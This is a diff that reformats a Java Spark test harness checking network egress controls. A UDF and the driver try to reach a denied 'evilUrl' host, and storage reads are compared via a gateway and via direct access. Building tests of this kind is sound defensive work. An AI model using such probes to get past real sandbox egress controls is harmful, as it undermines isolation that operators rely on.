@@ -50,14 +50,19 @@ public final class EgressJobs {
     result("done", "true");
   }
 
-  /** A groupBy over generated rows with about one key per row: nearly every row crosses the shuffle. */
+  /**
+   * A groupBy over generated rows with about one key per row: nearly every row crosses the shuffle.
+   */
   static void shuffle(SparkSession spark, long rows, String name) {
     long t0 = System.nanoTime();
-    List<Row> r = spark.range(0, rows, 1, 4)
-        .selectExpr("id % " + (rows / 3) + " as k", "id as v")
-        .groupBy("k").count()
-        .selectExpr("count(*) as groups", "sum(count) as total")
-        .collectAsList();
+    List<Row> r =
+        spark
+            .range(0, rows, 1, 4)
+            .selectExpr("id % " + (rows / 3) + " as k", "id as v")
+            .groupBy("k")
+            .count()
+            .selectExpr("count(*) as groups", "sum(count) as total")
+            .collectAsList();
     long ms = (System.nanoTime() - t0) / 1_000_000;
     result(name + ".groups", r.get(0).get(0));
     result(name + ".total", r.get(0).get(1));
@@ -71,39 +76,58 @@ public final class EgressJobs {
 
     // The UDF classes: a jar that only spark.jars ships to the executors; the driver loads it here
     // only to build the functions it serializes into the tasks.
-    URLClassLoader userJar = new URLClassLoader(new URL[] {new File(udfJar).toURI().toURL()},
-        EgressJobs.class.getClassLoader());
+    URLClassLoader userJar =
+        new URLClassLoader(
+            new URL[] {new File(udfJar).toURI().toURL()}, EgressJobs.class.getClassLoader());
     Thread.currentThread().setContextClassLoader(userJar);
 
     // 1. A UDF that connects to a denied host.
     @SuppressWarnings("unchecked")
-    UDF1<String, String> fetch = (UDF1<String, String>) userJar
-        .loadClass("dev.egress.spark.udf.FetchUdf").getConstructor().newInstance();
+    UDF1<String, String> fetch =
+        (UDF1<String, String>)
+            userJar.loadClass("dev.egress.spark.udf.FetchUdf").getConstructor().newInstance();
     spark.udf().register("fetch", fetch, DataTypes.StringType);
-    outcome("udf", () -> spark.range(0, 2, 1, 2)
-        .selectExpr("fetch(concat('" + evilUrl + "/udf?i=', id)) as body")
-        .as(Encoders.STRING()).collectAsList());
+    outcome(
+        "udf",
+        () ->
+            spark
+                .range(0, 2, 1, 2)
+                .selectExpr("fetch(concat('" + evilUrl + "/udf?i=', id)) as body")
+                .as(Encoders.STRING())
+                .collectAsList());
 
     // 2. User code reading allowed storage through the platform data layer (the gateway).
-    outcome("gateway", () -> spark.range(0, 2, 1, 2)
-        .map(function(userJar, "dev.egress.spark.udf.GatewayStorageRead", storageUrl),
-            Encoders.STRING())
-        .collectAsList());
+    outcome(
+        "gateway",
+        () ->
+            spark
+                .range(0, 2, 1, 2)
+                .map(
+                    function(userJar, "dev.egress.spark.udf.GatewayStorageRead", storageUrl),
+                    Encoders.STRING())
+                .collectAsList());
 
     // 3. The same read, user code with its own HTTP client: direct storage access.
-    outcome("direct", () -> spark.range(0, 2, 1, 2)
-        .map(function(userJar, "dev.egress.spark.udf.DirectStorageRead", storageUrl),
-            Encoders.STRING())
-        .collectAsList());
+    outcome(
+        "direct",
+        () ->
+            spark
+                .range(0, 2, 1, 2)
+                .map(
+                    function(userJar, "dev.egress.spark.udf.DirectStorageRead", storageUrl),
+                    Encoders.STRING())
+                .collectAsList());
 
     // 4. The driver itself connecting to the denied host (its own record, jvm_role of the driver).
-    outcome("driver", () -> {
-      java.net.URI u = java.net.URI.create(evilUrl);
-      try (Socket s = new Socket()) {
-        s.connect(new InetSocketAddress(u.getHost(), u.getPort()), 5_000);
-      }
-      return List.of("connected");
-    });
+    outcome(
+        "driver",
+        () -> {
+          java.net.URI u = java.net.URI.create(evilUrl);
+          try (Socket s = new Socket()) {
+            s.connect(new InetSocketAddress(u.getHost(), u.getPort()), 5_000);
+          }
+          return List.of("connected");
+        });
 
     // 5. Spark still works after the denials.
     shuffle(spark, rows / 10, "after");
@@ -112,8 +136,8 @@ public final class EgressJobs {
   @SuppressWarnings("unchecked")
   private static MapFunction<Long, String> function(ClassLoader l, String name, String url)
       throws Exception {
-    return (MapFunction<Long, String>) l.loadClass(name).getConstructor(String.class)
-        .newInstance(url);
+    return (MapFunction<Long, String>)
+        l.loadClass(name).getConstructor(String.class).newInstance(url);
   }
 
   interface Job {
